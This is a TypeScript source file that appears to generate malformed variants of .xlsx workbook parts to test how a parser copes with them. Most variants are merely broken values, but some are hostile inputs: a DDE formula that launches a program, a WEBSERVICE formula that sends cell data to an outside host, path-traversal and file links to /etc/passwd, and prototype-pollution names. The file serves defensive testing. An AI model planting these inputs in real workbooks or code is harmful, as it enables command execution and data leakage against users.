import type { KeyParts, PartChange } from './broken-workbooks.js';

/** Values that no attribute and no cell should have. */
const ODD_NUMBERS = ['', '-1', '1e999', 'NaN', '99999999999999999999', '0x10', '__proto__'];

/** Lies in attributes and values: of cells and rows, formulas, strings, styles, names, sheets and links. */
export function attributeChanges({ workbook, links, strings, styles, readings, limits, provenance }: KeyParts): PartChange[] {
  const changes: PartChange[] = [];
  const add = (path: string, name: string, pattern: RegExp | string, replacement: string): void => {
    changes.push({ name, path, change: (text) => text.replace(pattern, replacement) });
  };
  const before = (path: string, name: string, mark: string, more: string): void => {
    changes.push({ name, path, change: (text) => text.replace(mark, () => more + mark) });
  };
  // Cells and rows.
  for (const value of ['', 'A0', 'ZZZZZZ1', 'A99999999999', 'a4', '$A$4', '4A', 'A4:B5', 'A-4']) add(readings, `a cell with r="${value}"`, /(<c )r="B4"/, `$1r="${value}"`);
  for (const value of [...ODD_NUMBERS, '0', '1048577', '999999999', '1']) add(readings, `a row with r="${value}"`, /(<row )r="4"/, `$1r="${value}"`);
  add(readings, 'cells without r', / r="[A-Z]+\d+"/g, '');
  add(readings, 'rows without r', /(<row) r="\d+"/g, '$1');
  add(readings, 'a row twice', /(<row r="4".*?<\/row>)/s, '$1$1');
  for (const value of ['x', '', 's', 'b', 'e', 'd', 'n', 'str', 'inlineStr']) add(readings, `every cell of type "${value}"`, /(<c r="[A-Z]+4"[^>]*?)(?: t="[^"]*")?(\/?)>/g, `$1 t="${value}"$2>`);
  for (const value of [...ODD_NUMBERS, '4294967296']) add(readings, `cells of style "${value}"`, /(<c r="[A-Z]+4"[^>]*?) s="\d+"/g, `$1 s="${value}"`);
  for (const value of [...ODD_NUMBERS, ' ', '1,5', 'true', '1'.repeat(400)]) add(readings, `values "${value.slice(0, 20)}" in a row`, /(<c r="[A-Z]+4"[^>]*>)<v>[^<]*<\/v>/g, `$1<v>${value}</v>`);
  for (const value of ['999999', '-1', '0.5', 'x', '']) add(limits, `shared string ${value || 'without a number'}`, /(<c [^>]*t="s"[^>]*>)<v>[^<]*<\/v>/, `$1<v>${value}</v>`);
  // Formulas.
  for (const value of ['999', '', '-1', '__proto__']) add(readings, `a shared formula with si="${value}"`, /(<c r="[A-Z]+5"[^>]*><f t="shared" )si="\d+"/, `$1si="${value}"`);
  add(readings, 'shared formulas without their first cell', /<f t="shared" ref="[^"]*" si="(\d+)">[^<]*<\/f>/g, '<f t="shared" si="$1"/>');
  add(readings, 'shared formulas of another range', /(<f t="shared" )ref="[^"]*"/g, '$1ref="XFD1048576:A1"');
  add(readings, 'formulas as arrays', /<f t="shared" ref=/g, '<f t="array" ref=');
  add(readings, 'formulas as a data table', /<f t="shared" ref=/g, '<f t="dataTable" dt2D="1" dtr="1" r1="A1" ref=');
  add(readings, 'formulas without stored values', /(<f t="shared" si="\d+"\/>)<v>[^<]*<\/v>/g, '$1');
  add(readings, 'a formula of 9,000 brackets', /(<c r="[A-Z]+4"[^>]*>)<v>/, `$1<f>${'('.repeat(9000)}1${')'.repeat(9000)}</f><v>`);
  add(readings, 'a formula that fetches', /(<c r="[A-Z]+4"[^>]*>)<v>/, '$1<f>WEBSERVICE("https://example.org/"&amp;B4)</f><v>');
  add(readings, 'a formula that starts a program', /(<c r="[A-Z]+4"[^>]*>)<v>/, "$1<f>cmd|'/c calc'!A0</f><v>");
  // What stands around the cells.
  add(readings, 'a dimension of the whole sheet', /<dimension ref="[^"]*"\/>|(?=<sheetViews|<sheetFormatPr)/, '<dimension ref="A1:XFD1048576"/>');
  before(readings, 'two thousand million columns', '<sheetData>', '<cols><col min="1" max="2000000000" hidden="1"/></cols>');
  before(readings, 'columns of odd numbers', '<sheetData>', '<cols><col min="x" max="-1" width="NaN" hidden="1"/></cols>');
  changes.push({ name: 'a merge over the whole sheet', path: readings, change: (text) => text.replace('</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>') });
  changes.push({ name: 'validation over the whole sheet', path: readings, change: (text) => text.replace('</sheetData>', '</sheetData><dataValidations count="9"><dataValidation sqref="A1:XFD1048576"/></dataValidations>') });
  changes.push({ name: 'cells behind the cells', path: readings, change: (text) => text.replace('</sheetData>', '</sheetData><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>') });
  changes.push({ name: 'cells outside rows', path: readings, change: (text) => text.replace('</sheetData>', '<c r="A9"><v>1</v></c></sheetData>') });
  add(readings, 'every row hidden', /<row r=/g, '<row hidden="1" r=');
  // Strings and styles.
  for (const value of ODD_NUMBERS.slice(1, 5)) add(strings, `counts of ${value}`, /<sst([^>]*?)(?: count="\d+")?(?: uniqueCount="\d+")?>/, `<sst$1 count="${value}" uniqueCount="${value}">`);
  add(strings, 'strings without text', /<t[^>]*>[^<]*<\/t>/g, '');
  add(strings, 'a string of 40,000 letters', '<si>', `<si><t>${'x'.repeat(40_000)}</t></si><si>`);
  add(strings, 'strings inside strings', '<si>', '<si><si><t>x</t></si></si><si>');
  add(strings, 'escapes of every kind', '<si>', '<si><t>_x0000__xD800__x005F_x000D__xZZZZ_</t></si><si>');
  for (const value of ODD_NUMBERS) add(styles, `number formats with the number "${value}"`, /numFmtId="\d+"/g, `numFmtId="${value}"`);
  before(styles, 'a format code of 30,000 quotes', '<cellXfs', `<numFmts><numFmt numFmtId="14" formatCode="${'&quot;'.repeat(30_000)}"/></numFmts>`);
  before(styles, 'a format code of 30,000 brackets', '<cellXfs', `<numFmts><numFmt numFmtId="14" formatCode="${'['.repeat(30_000)}"/></numFmts>`);
  // Names, sheets and links.
  changes.push({ name: 'a name over the whole sheet', path: workbook, change: (text) => text.replace('</definedNames>', '<definedName name="all">Readings!$A$1:$XFD$1048576</definedName></definedNames>') });
  changes.push({ name: 'names of a sheet that is not there', path: workbook, change: (text) => text.replace(/<definedName /g, '<definedName localSheetId="99" ') });
  changes.push({ name: 'a name of Object', path: workbook, change: (text) => text.replace('</definedNames>', '<definedName name="__proto__">1</definedName><definedName name="constructor">1</definedName></definedNames>') });
  add(workbook, 'names that point nowhere', /(<definedName [^>]*>)[^<]*/g, '$1#REF!');
  add(workbook, 'names that are formulas', /(<definedName [^>]*>)[^<]*/g, '$1SUM(Readings!$A$1:$XFD$1048576)');
  add(workbook, 'the 1904 system', /<workbookPr/, '<workbookPr date1904="1"');
  add(workbook, 'sheets without links', / r:id="[^"]*"/g, '');
  add(workbook, 'every sheet with the same link', / r:id="[^"]*"/g, ' r:id="rId1"');
  add(workbook, 'every sheet with the same name', /(<sheet [^>]*?name=)"[^"]*"/g, '$1"Readings"');
  add(workbook, 'every sheet with the same number', / sheetId="\d+"/g, ' sheetId="1"');
  for (const value of ['', '__proto__', "'", '../../x', 'x'.repeat(5000), 'Strokes', '_x0000_']) add(workbook, `the sheet Readings named "${value.slice(0, 20)}"`, /name="Readings"/, `name="${value}"`);
  add(workbook, 'every sheet hidden', /<sheet /g, '<sheet state="veryHidden" ');
  add(workbook, 'no sheets', /<sheets>.*<\/sheets>/s, '<sheets/>');
  for (const value of ['workbook.xml', 'styles.xml', '../_rels/.rels', '/', '', '%', 'worksheets/%2e%2e/%2e%2e/etc/passwd', 'file:///etc/passwd', '\\\\server\\share\\x.xml']) add(links, `links to "${value}"`, /(Type="[^"]*\/worksheet"[^>]*?|)Target="worksheets\/sheet\d+\.xml"/g, `$1Target="${value}"`);
  add(links, 'links to the outside', /Target="worksheets/g, 'TargetMode="External" Target="worksheets');
  add(links, 'links of another type', /\/worksheet"/g, '/chartsheet"');
  add(links, 'links with one number', / Id="[^"]*"/g, ' Id="rId1"');
  add('_rels/.rels', 'a package whose workbook lies elsewhere', /Target="\/?xl\/workbook\.xml"/, 'Target="xl/styles.xml"');
  add('_rels/.rels', 'a package whose workbook is itself', /Target="\/?xl\/workbook\.xml"/, 'Target="_rels/.rels"');
  add('[Content_Types].xml', 'a content type that is none', /spreadsheetml\.sheet\.main\+xml/, 'nonsense');
  add('[Content_Types].xml', 'the content type of a binary workbook', /application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml/, 'application/vnd.ms-excel.sheet.binary.macroEnabled.main');
  add(provenance, 'provenance of another limit set', /<sheetData>.*<\/sheetData>/s, '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Limit set</t></is></c><c r="B1" t="inlineStr"><is><t>../../etc/passwd: x</t></is></c></row></sheetData>');
  add(limits, 'limits that are text', /(<c r="E\d+"[^>]*?)(?: t="\w+")?>(?:<v>[^<]*<\/v>)/g, '$1 t="str"><v>high</v>');
  return changes;
}
